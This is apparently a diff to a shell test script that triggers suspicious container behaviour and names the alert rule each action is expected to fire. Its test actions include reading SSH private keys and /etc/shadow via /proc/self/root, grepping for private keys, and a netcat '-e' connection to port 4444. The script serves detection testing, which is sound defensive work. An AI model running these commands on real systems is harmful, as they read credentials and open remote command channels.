@@ -41,8 +41,8 @@ credentials() {
 		head -c 20 /root/.ssh/id_ed25519
 	}
 	action list-ssh-folder && {
-		want ls 'Read ssh information' /home/app/.ssh
-		ls /home/app/.ssh
+		want ls 'Read ssh information' /root/.ssh
+		ls /root/.ssh
 	}
 	action grep-private-keys && {
 		want grep 'Search Private Keys or Passwords' 'BEGIN OPENSSH PRIVATE'
@@ -217,6 +217,8 @@ network() {
 	}
 	action netcat-shell nc && {
 		want nc 'Netcat Remote Code Execution in Container' ' -e '
+		want nc 'Redirect STDOUT/STDIN to Network Connection in Container'
+		ours nc 'Standard streams on a connection'
 		nc $out 4444 -e /bin/true
 	}
 	action netcat nc && {
@@ -364,6 +366,7 @@ others() { # what our own rules see and the official ones do not
 		intruder fault-handler
 	}
 	action shadow-through-proc && {
+		ours cat 'Password file read' /proc/self/root
 		cat /proc/self/root/etc/shadow
 	}
 }
